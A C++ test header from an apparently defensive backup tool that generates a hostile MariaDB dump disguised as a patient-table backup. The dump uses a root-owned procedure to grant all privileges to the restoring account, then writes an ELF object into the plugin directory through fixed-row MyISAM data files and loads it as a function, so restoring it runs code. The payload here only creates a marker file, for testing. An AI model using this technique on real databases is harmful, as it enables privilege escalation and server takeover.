// A dump of MariaDB that runs code: not an invention, it did in a drill. Anybody who writes to a backup can make one.
#pragma once

#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <string_view>

#include <fmt/format.h>

#include "base/result.h"

namespace garde::worker::testing {

// The object: once it is loaded, the file `mark` exists.
inline std::string hostile_object(const std::filesystem::path& mark) {
  std::ifstream stream(GARDE_HOSTILE_FUNCTION, std::ios::binary);
  std::string object{std::istreambuf_iterator<char>(stream), {}};
  constexpr std::string_view kMark = "the file that shows that a dump ran code";
  const std::size_t at = object.find(kMark);
  GARDE_CHECK(at != std::string::npos && mark.native().size() < 256);
  object.replace(at, mark.native().size() + 1, mark.native().c_str(), mark.native().size() + 1);
  return object;
}

// A routine that belongs to root gives the account that loads all of root's rights; a table is stored where the server
// looks for plugins, and holds that object byte for byte; the server is asked to load it as a function.
inline std::string hostile_mariadb_dump(const std::filesystem::path& mark) {
  std::string object = hostile_object(mark);

  // A row of fixed size begins with a bit for each column that may be null: with six that are and one that is not,
  // the first byte of an ELF file. The rest of it follows in columns of 255 bytes.
  constexpr std::size_t kColumn = 255;
  GARDE_CHECK(object.starts_with('\x7f'));
  object.erase(0, 1);
  object.resize((object.size() + kColumn - 1) / kColumn * kColumn);
  std::string columns;
  std::string values;
  for (int i = 0; i < 6; ++i) {
    columns += fmt::format("n{} CHAR(0) NULL, ", i);
    values += "NULL, ";
  }
  for (std::size_t i = 0; i < object.size() / kColumn; ++i) {
    columns += fmt::format("{}b{} BINARY({}) {}", i == 0 ? "" : ", ", i, kColumn, i == 0 ? "NULL" : "NOT NULL");
    values += i == 0 ? "0x" : ", 0x";
    for (const char c : object.substr(i * kColumn, kColumn))
      values += fmt::format("{:02x}", static_cast<unsigned char>(c));
  }
  return "-- MariaDB dump 10.19  Distrib 10.11.6-MariaDB, for debian-linux-gnu (x86_64)\n"
         "CREATE TABLE `patients` (`id` int(11) NOT NULL, `nom` varchar(80) DEFAULT NULL, PRIMARY KEY (`id`));\n"
         "INSERT INTO `patients` VALUES (1,'Durand');\n"
         "DELIMITER ;;\n"
         "CREATE DEFINER=`root`@`localhost` PROCEDURE `mise_a_jour`()\nBEGIN\n  CREATE ROLE taken;\n"
         "  GRANT ALL ON *.* TO taken;\n  GRANT taken TO restorer@localhost;\nEND ;;\n"
         "DELIMITER ;\n"
         "CALL mise_a_jour();\nSET ROLE taken;\n"
         "SET @d = TRIM(TRAILING '/' FROM @@plugin_dir);\n"
         // The folder, which may not be there yet.
         "EXECUTE IMMEDIATE CONCAT(\"CREATE TABLE m (a INT) ENGINE=InnoDB DATA DIRECTORY='\", @d, \"'\");\n"
         "EXECUTE IMMEDIATE CONCAT(\"CREATE TABLE e (" +
         columns + ") ENGINE=MyISAM ROW_FORMAT=FIXED DATA DIRECTORY='\", @d, \"'\");\n" + "INSERT INTO e VALUES (" +
         values +
         ");\nFLUSH TABLES;\nCREATE FUNCTION f RETURNS INTEGER SONAME 'e.MYD';\n"
         "-- Dump completed on 2026-11-29 21:00:00\n";
}

}  // namespace garde::worker::testing
